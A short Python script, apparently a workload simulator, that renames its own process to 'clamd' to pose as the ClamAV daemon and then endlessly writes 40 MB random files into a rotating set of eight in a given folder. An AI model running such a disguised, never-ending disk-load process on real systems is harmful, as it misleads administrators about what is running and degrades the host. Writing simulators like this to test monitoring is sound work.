"""A thread of a virus scanner that unpacks archives within archives: writes files of 40 MB into a folder as fast as it may, and leaves them there; the
eighth is written over the first. Argument: the folder."""
import os
import sys

with open("/proc/self/comm", "w") as name:
    name.write("clamd")
os.makedirs(sys.argv[1], exist_ok=True)
part, count = os.urandom(1 << 17), 0
while True:
    file = os.open(f"{sys.argv[1]}/clamav-{count % 8}.tmp", os.O_CREAT | os.O_WRONLY)
    for _ in range(320):
        os.write(file, part)
    os.close(file)
    count += 1
